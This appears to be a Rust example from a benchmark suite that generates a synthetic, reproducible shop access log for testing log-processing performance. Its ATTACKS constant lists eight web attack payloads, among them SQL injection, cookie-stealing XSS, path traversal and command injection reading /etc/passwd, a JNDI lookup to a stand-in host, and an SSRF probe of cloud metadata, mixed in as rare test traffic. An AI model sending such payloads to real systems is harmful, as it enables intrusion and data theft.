//! An access log in the format `combined`, made up, the same in every run:
//!
//! ```sh
//! cargo run --profile quick -p abatis-benches --example access-log -- 1G > access.log
//! ```
//!
//! A shop: half of the requests are for the same few hundred pages and files, the others have queries of words, numbers of orders
//! and tokens, most of which come once. Forty user agents. One request in 2000 is an attack.

use std::io::{self, BufWriter, Write};
use std::process::ExitCode;

fn main() -> ExitCode {
    let Some(size) = std::env::args().nth(1).and_then(|size| bytes(&size)) else {
        let _ = writeln!(io::stderr(), "access-log SIZE, like 64M or 1G");
        return ExitCode::from(2);
    };
    match write(&mut BufWriter::with_capacity(1 << 20, io::stdout().lock()), size) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) if error.kind() == io::ErrorKind::BrokenPipe => ExitCode::SUCCESS,
        Err(error) => {
            let _ = writeln!(io::stderr(), "access-log: {error}");
            ExitCode::FAILURE
        }
    }
}

fn bytes(size: &str) -> Option<u64> {
    let (number, unit) = size.split_at_checked(size.len().checked_sub(1)?)?;
    let unit = match unit {
        "K" => 1 << 10,
        "M" => 1 << 20,
        "G" => 1 << 30,
        _ => return size.parse().ok(),
    };
    number.parse::<u64>().ok()?.checked_mul(unit)
}

/// Writes lines until `size` bytes are reached.
fn write(out: &mut impl Write, size: u64) -> io::Result<()> {
    let mut random = Random(7);
    let agents: Vec<String> = (0..40).map(agent).collect();
    let mut written = 0;
    let mut second = 0;
    let mut line = Vec::with_capacity(1024);
    while written < size {
        line.clear();
        // Forty requests a second.
        second += u64::from(random.below(40) == 0);
        let (day, hour, minute) = (1 + second / 86400 % 28, second / 3600 % 24, second / 60 % 60);
        let client = random.below(1 << 16);
        write!(
            line,
            "203.0.{}.{} - - [{day:02}/Oct/2026:{hour:02}:{minute:02}:{:02} +0200] \"",
            client >> 8,
            client & 255,
            second % 60
        )?;
        request(&mut random, &mut line)?;
        let (bytes, agent) = (random.below(60_000), random.skewed(agents.len()));
        write!(line, " HTTP/1.1\" 200 {bytes} \"")?;
        match random.below(10) {
            0..=2 => line.push(b'-'),
            3..=7 => {
                line.extend_from_slice(b"https://shop.example");
                page(&mut random, &mut line)?;
            }
            8 => line.extend_from_slice(b"https://www.search.example/"),
            _ => {
                line.extend_from_slice(b"https://shop.example");
                search(&mut random, &mut line)?;
            }
        }
        writeln!(line, "\" \"{}\"", agents.get(agent).map_or("-", String::as_str))?;
        out.write_all(&line)?;
        written += line.len() as u64;
    }
    out.flush()
}

fn request(random: &mut Random, out: &mut impl Write) -> io::Result<()> {
    if random.below(2000) == 0 {
        let attack = ATTACKS[random.below(ATTACKS.len())];
        return write!(out, "GET {attack}");
    }
    match random.below(20) {
        0..=6 => {
            let file = random.skewed(120);
            let (kind, ending) = [("js", "js"), ("css", "css"), ("img", "webp")][file % 3];
            write!(
                out,
                "GET /static/{kind}/{}-{:08x}.{ending}",
                WORDS[file % WORDS.len()],
                file * 0x9e37_79b9 % (1 << 32)
            )
        }
        7..=11 => {
            out.write_all(b"GET ")?;
            page(random, out)
        }
        12..=15 => {
            out.write_all(b"GET ")?;
            search(random, out)
        }
        16 => write!(out, "GET /orders/{}/items", 100_000 + random.below(900_000)),
        17 => write!(out, "POST /api/cart/{:016x}", random.next()),
        18 => write!(
            out,
            "GET /api/stock?sku=OT-{:04}&store={}",
            random.below(10_000),
            random.below(40)
        ),
        _ => write!(out, "POST /login"),
    }
}

/// One of a few hundred pages.
fn page(random: &mut Random, out: &mut impl Write) -> io::Result<()> {
    let page = random.skewed(400);
    let (a, b) = (WORDS[page % WORDS.len()], WORDS[page / 7 % WORDS.len()]);
    match page % 3 {
        0 => write!(out, "/catalogue/{a}?page={}", 1 + page % 5),
        1 => write!(out, "/{a}/{b}"),
        _ => write!(out, "/guides/how-to-choose-{a}-and-{b}"),
    }
}

fn search(random: &mut Random, out: &mut impl Write) -> io::Result<()> {
    out.write_all(b"/search?q=")?;
    for at in 0..=random.below(3) {
        let plus = if at == 0 { "" } else { "+" };
        write!(out, "{plus}{}", WORDS[random.below(WORDS.len())])?;
    }
    let sort = ["relevance", "price-asc", "price-desc", "newest"][random.below(4)];
    write!(out, "&sort={sort}&page={}", 1 + random.skewed(20))
}

fn agent(number: usize) -> String {
    let system = [
        "Windows NT 10.0; Win64; x64",
        "Macintosh; Intel Mac OS X 10_15_7",
        "X11; Linux x86_64",
        "Linux; Android 15; Pixel 9",
        "iPhone; CPU iPhone OS 18_6 like Mac OS X",
    ][number % 5];
    let version = 120 + number / 2;
    match number % 8 {
        0..=4 => format!(
            "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
        ),
        5 | 6 => {
            format!("Mozilla/5.0 ({system}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0")
        }
        _ => format!("Mozilla/5.0 (compatible; ExampleBot/{number}.1; +https://bot.example/about)"),
    }
}

const ATTACKS: [&str; 8] = [
    "/search?q=1'+or+'1'='1",
    "/item?id=-1+union+select+null,password+from+users--+-",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/ping?host=127.0.0.1;cat+/etc/passwd",
    "/render?name={{7*7}}",
    "/search?q=${jndi:ldap://files.example/a}",
    "/fetch?url=http://169.254.169.254/latest/meta-data/",
];

const WORDS: [&str; 64] = [
    "oak", "table", "chair", "garden", "lamp", "summer", "sale", "red", "blue", "green", "small",
    "large", "wood", "steel", "glass", "paper", "cotton", "linen", "shelf", "desk", "sofa",
    "mirror", "candle", "vase", "bench", "stool", "rug", "curtain", "pillow", "blanket", "kitchen",
    "bath", "hall", "office", "outdoor", "winter", "spring", "autumn", "gift", "set", "frame",
    "clock", "plant", "pot", "bowl", "plate", "cup", "knife", "board", "basket", "box", "hook",
    "rack", "ladder", "tool", "paint", "brush", "nail", "screw", "hinge", "handle", "round",
    "square", "vintage",
];

/// A linear congruential generator (the constants of MMIX): the same log in every run.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        self.0 ^ self.0 >> 29
    }

    fn below(&mut self, end: usize) -> usize {
        ((self.next() >> 33) % end as u64) as usize
    }

    /// The first are the most frequent.
    fn skewed(&mut self, end: usize) -> usize {
        let bound = self.below(end) + 1;
        self.below(bound)
    }
}
